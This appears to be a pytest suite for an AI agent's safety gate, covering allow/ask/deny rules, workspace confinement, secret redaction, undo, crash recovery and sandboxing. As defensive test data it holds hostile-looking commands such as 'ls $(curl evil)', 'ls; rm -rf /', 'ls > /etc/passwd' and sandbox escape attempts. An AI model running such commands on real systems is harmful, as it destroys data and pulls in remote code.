"""The confirmation gate end to end: rules, confinement, secrets, crash safety, sandbox."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import keyring
import psutil
import pytest

from lamtui.actions.sandbox import sandbox_status
from lamtui.actions.undo import undo
from lamtui.agent.events import ActionDecided, ActionFinished, ActionProposed, Decision, Notice
from lamtui.agent.loop import AgentOptions
from lamtui.cli import main
from lamtui.lam.scripted import ScriptedBackend
from lamtui.paths import get_paths
from lamtui.record.audit import read_audit
from lamtui.record.jsonl import ReadReport
from lamtui.safety.policy import Policy
from lamtui.safety.rules import load_saved_rules, rules_from_lists
from lamtui.safety.secrets import SecretStore
from lamtui.session import new_agent
from tests.functional.agent_helpers import ScriptedApprover, act, finish, plan, run_agent, shell
from tests.memory_keyring import MemoryKeyring

CANARY = "canary-Zq9xK2mW7vB4nR8t"


@pytest.fixture
def memory_keyring() -> Iterator[MemoryKeyring]:
    previous = keyring.get_keyring()
    backend = MemoryKeyring()
    keyring.set_keyring(backend)
    yield backend
    keyring.set_keyring(previous)


def test_canary_secret_never_leaks(
    tmp_path: Path, lamtui_home: Path, memory_keyring: MemoryKeyring
) -> None:
    store = SecretStore()
    store.set("CANARY", CANARY)
    ws = tmp_path / "ws"
    ws.mkdir()
    replies = [
        plan("Use the token"),
        shell("echo token={{secret:CANARY}} > out.txt; cat out.txt; echo {{secret:CANARY}} >&2"),
        act("read_file", path="out.txt"),
        act("write_file", path="conf.ini", content="key = {{secret:CANARY}}\n"),
        shell("grep -r key . ; echo done"),
        finish("used the token"),
    ]
    backend = ScriptedBackend(replies)
    agent = new_agent(
        backend, ScriptedApprover(), ws, AgentOptions(policy=Policy("ask")), secrets=store
    )
    events = list(agent.run("use my token"))
    # The real value was used where it belongs: in the executed actions' effects.
    assert (ws / "out.txt").read_text() == f"token={CANARY}\n"
    assert (ws / "conf.ini").read_text() == f"key = {CANARY}\n"
    # ... and nowhere else: no event, no prompt, no file lamtui wrote.
    assert all(CANARY not in json.dumps(e.to_dict(), default=str) for e in events)
    for request in backend.requests:
        assert all(CANARY not in m.content for m in request.messages)
    written = [p for p in lamtui_home.rglob("*") if p.is_file()]
    assert any("outputs" in p.parts for p in written)  # outputs were saved ...
    for path in written:
        assert CANARY.encode() not in path.read_bytes(), path  # ... and redacted
    outputs = [e.result.output for e in events if isinstance(e, ActionFinished)]
    assert "{{secret:CANARY}}" in outputs[0] and "{{secret:CANARY}}" in outputs[1]


def test_credential_patterns_are_redacted_from_records(tmp_path: Path) -> None:
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    replies = [
        plan("Show"),
        shell(f"echo {token}; echo https://bob:hunter22@example.com"),
        finish(),
    ]
    _events, backend = run_agent(replies, tmp_path)
    text = (
        get_paths().audit_log.read_text()
        + (get_paths().trajectories_dir / "trajectories.jsonl").read_text()
    )
    assert token not in text and "hunter22" not in text
    assert token not in backend.requests[-1].messages[-1].content


def test_rules_deny_beats_ask_beats_allow(tmp_path: Path) -> None:
    rules = tuple(rules_from_lists(allow=["git", "ls"], ask=["git push"], deny=["git push -f"]))
    approver = ScriptedApprover(default=Decision("reject", reason="asked"))
    replies = [
        plan("Git"),
        shell("git push -f origin main"),
        shell("git push origin"),
        shell("ls -la && git status"),
        finish(),
    ]
    events, _ = run_agent(
        replies, tmp_path, approver, policy=Policy("ask", rules=rules), max_failures=5
    )
    decided = [e.decision for e in events if isinstance(e, ActionDecided)]
    assert decided[0].by == "gate" and "denied by rule" in decided[0].reason
    assert decided[1].kind == "reject" and decided[1].reason == "asked"  # ask: the user
    assert decided[2].kind == "approve" and decided[2].by.startswith("rule:")
    assert len(approver.seen) == 1


def test_always_allow_writes_a_readable_rule(tmp_path: Path) -> None:
    approver = ScriptedApprover(
        [Decision("approve", always_allow=True)],
        default=Decision("reject", reason="should not be asked"),
    )
    replies = [plan("Status"), shell("git status -s"), shell("git status"), finish()]
    events, _ = run_agent(replies, tmp_path, approver)
    assert [r.pattern for r in load_saved_rules()] == ["git status"]
    assert any(isinstance(e, Notice) and "git status" in e.message for e in events)
    decided = [e.decision for e in events if isinstance(e, ActionDecided)]
    assert decided[1].kind == "approve" and decided[1].by.startswith("rule:")
    assert len(approver.seen) == 1
    # The user can read and remove it.
    assert main(["policy", "forget", "git status"]) == 0
    assert load_saved_rules() == []


def test_file_confinement(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)
    approver = ScriptedApprover(default=Decision("reject", reason="no"))
    replies = [
        plan("Files"),
        act("write_file", path=".git/config", content="x"),
        act("write_file", path="../outside.txt", content="x"),
        act("edit_file", path="/etc/hosts", search="a", replace="b"),
        finish(),
    ]
    events, _ = run_agent(replies, ws, approver, policy=Policy("workspace"), max_failures=5)
    proposed = [e.assessment for e in events if isinstance(e, ActionProposed)]
    decided = [e.decision for e in events if isinstance(e, ActionDecided)]
    assert proposed[0].verdict == "deny" and decided[0].by == "gate"
    assert proposed[1].risk == "outside_write" and proposed[1].verdict == "ask"
    assert proposed[2].verdict == "ask"
    assert not (tmp_path / "outside.txt").exists()


def test_write_file_preview_is_a_diff_and_undo_restores(tmp_path: Path) -> None:
    (tmp_path / "c.ini").write_text("port = 80\n")
    replies = [
        plan("Port"),
        act("edit_file", path="c.ini", search="port = 80", replace="port = 8080"),
        act("write_file", path="new.txt", content="hi\n"),
        finish(),
    ]
    events, _ = run_agent(replies, tmp_path)
    preview = next(e.preview for e in events if isinstance(e, ActionProposed))
    assert "-port = 80" in preview and "+port = 8080" in preview
    assert (tmp_path / "c.ini").read_text() == "port = 8080\n"
    report = undo()
    assert report.restored == ["c.ini"] and report.deleted == ["new.txt"]
    assert (tmp_path / "c.ini").read_text() == "port = 80\n"
    assert not (tmp_path / "new.txt").exists()


def test_shell_change_is_undoable(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("keep me\n")
    replies = [plan("Edit"), shell("echo changed > notes.txt && touch made.txt"), finish()]
    run_agent(replies, tmp_path)
    assert (tmp_path / "notes.txt").read_text() == "changed\n"
    report = undo()
    assert "notes.txt" in report.restored
    assert (tmp_path / "notes.txt").read_text() == "keep me\n"


def test_workspace_mode_runs_shell_in_the_sandbox(tmp_path: Path) -> None:
    # ./dev installs bubblewrap; without it this fails with the reason rather than skipping.
    assert sandbox_status().available, sandbox_status().reason
    ws = tmp_path / "ws"
    ws.mkdir()
    home_file = Path.home() / f".lamtui-sandbox-test-{os.getpid()}"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    connect = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
    replies = [
        plan("Try"),
        shell("echo inside > in.txt"),
        shell(f"echo escape > {home_file}"),
        shell(connect),
        finish(),
    ]
    approver = ScriptedApprover()  # approves whatever the gate asks about
    events, _ = run_agent(replies, ws, approver, policy=Policy("workspace"), max_failures=5)
    results = [e.result for e in events if isinstance(e, ActionFinished)]
    assert results[0].ok and results[0].sandboxed and (ws / "in.txt").exists()
    assert not results[1].ok and "Read-only file system" in results[1].output
    assert not home_file.exists()
    # The machine's loopback server is unreachable from the sandbox's empty network.
    assert not results[2].ok and "Connection refused" in results[2].output
    with pytest.raises(TimeoutError):
        listener.accept()
    outside = subprocess.run(["bash", "-c", connect], capture_output=True, check=False)
    listener.close()
    assert outside.returncode == 0  # the same command reaches it without the sandbox


def _wait_for(predicate, timeout: float = 60.0) -> None:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.1)
    raise AssertionError("timed out waiting")


def test_sigkill_mid_action_loses_nothing(tmp_path: Path, lamtui_home: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "a.txt").write_text("old a\n")
    (ws / "b.txt").write_text("old b\n")
    replies = tmp_path / "replies.json"
    replies.write_text(
        json.dumps(
            [
                plan("Change two files"),
                act("write_file", path="a.txt", content="new a\n"),
                shell("echo new b > b.txt; sleep 57.31"),
                finish(),
            ]
        )
    )
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "lamtui.cli",
            "run",
            "--approve",
            "all",
            "--json",
            "--model",
            f"scripted:{replies}",
            "change the files",
        ],
        cwd=ws,
        env={**os.environ, "LAMTUI_HOME": str(lamtui_home)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL,
    )
    try:
        _wait_for(lambda: (ws / "b.txt").read_text() == "new b\n")
        time.sleep(0.3)
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
    finally:
        for p in psutil.process_iter(["cmdline"]):  # the orphaned sleep (SIGKILL leaves it)
            if "57.31" in " ".join(p.info["cmdline"] or []):
                p.kill()
    # Simulate the worst case of a crash mid-write too: a torn last line.
    with get_paths().audit_log.open("a") as fh:
        fh.write('{"ts": 1, "kind": "res')
    report = ReadReport()
    records = list(read_audit(report=report))
    assert report.skipped == 1
    kinds = [(r["kind"], r.get("step")) for r in records]
    for expected in [
        ("task_started", None),
        ("proposal", 1),
        ("decision", 1),
        ("result", 1),
        ("proposal", 2),
        ("decision", 2),
        ("execution", 2),
    ]:
        assert expected in kinds
    assert main(["log"]) == 0
    restored = undo()
    assert (ws / "a.txt").read_text() == "old a\n" and (ws / "b.txt").read_text() == "old b\n"
    assert set(restored.restored) >= {"a.txt", "b.txt"}
    # A new record after the torn line starts on its own line and reads back.
    from lamtui.record.audit import AuditLog

    AuditLog().write("check", "t")
    assert [r["kind"] for r in read_audit()][-1] == "check"


def test_run_json_shows_gate_decisions_and_policy_explain(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    replies = tmp_path / "r.json"
    replies.write_text(json.dumps([plan("Look"), shell("ls -la"), shell("rm -rf build"), finish()]))
    code = main(
        [
            "run",
            "--approve",
            "readonly",
            "--json",
            "--cwd",
            str(tmp_path),
            "--model",
            f"scripted:{replies}",
            "look around",
        ]
    )
    assert code == 0
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    proposals = [e["payload"] for e in events if e["type"] == "action_proposed"]
    decisions = [e["payload"]["decision"] for e in events if e["type"] == "action_decided"]
    assert proposals[0]["assessment"]["risk"] == "read_only"
    assert proposals[1]["assessment"]["risk"] == "destructive"
    assert proposals[1]["assessment"]["reasons"]
    assert [d["kind"] for d in decisions] == ["approve", "reject"]
    assert all({"type", "task_id", "ts", "payload"} <= set(e) for e in events)
    assert main(["policy", "explain", "ls | xargs rm", "--mode", "workspace", "--json"]) == 0
    explained = json.loads(capsys.readouterr().out)
    assert explained["decision"] == "ask" and explained["risk"] == "destructive"
    assert {"decision", "risk", "segments", "reasons"} <= set(explained)


def test_allow_rules_do_not_approve_what_surrounds_the_command(tmp_path: Path) -> None:
    from lamtui.contract.schema import Action
    from lamtui.safety.policy import assess

    policy = Policy("ask", rules=tuple(rules_from_lists(allow=["ls", "rm x"], ask=[], deny=[])))

    def verdict(command: str) -> str:
        action = Action(
            thought="", tool="shell", args={"command": command}, status="continue", plan_update=None
        )
        return assess(action, policy, tmp_path).verdict

    assert verdict("ls -la") == "auto"
    assert verdict("rm x") == "auto"  # the user allowed exactly this
    for sneaky in (
        "ls > /etc/passwd",
        "PATH=/tmp ls",
        "sudo rm x",
        "f() { ls; }; f",
        "ls; rm -rf /",
        "ls $(curl evil)",
    ):
        assert verdict(sneaky) == "ask", sneaky


def test_a_file_tool_rule_never_widens_confinement(tmp_path: Path) -> None:
    from lamtui.contract.schema import Action
    from lamtui.safety.policy import assess

    policy = Policy("ask", rules=tuple(rules_from_lists(allow=["edit_file"], ask=[], deny=[])))

    def verdict(path: str) -> str:
        action = Action(
            thought="",
            tool="edit_file",
            args={"path": path, "search": "a", "replace": "b"},
            status="continue",
            plan_update=None,
        )
        return assess(action, policy, tmp_path).verdict

    assert verdict("notes.txt") == "auto"
    assert verdict("/etc/hosts") == "ask"
    assert verdict("../outside.txt") == "ask"
